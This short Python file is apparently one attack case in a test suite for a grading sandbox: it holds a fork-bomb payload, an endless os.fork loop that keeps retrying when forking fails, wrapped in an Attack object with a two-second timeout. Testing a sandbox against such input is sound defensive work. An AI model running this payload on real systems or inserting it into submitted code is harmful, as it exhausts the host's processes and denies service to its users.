"""Forks without end while it is graded."""

from attack import Attack, code

BOMB = """
import os as _os, time as _time
while True:
    try:
        _os.fork()
    except OSError:
        _time.sleep(0.1)
"""
ATTACK = Attack((code(BOMB),), timeout_s=2)
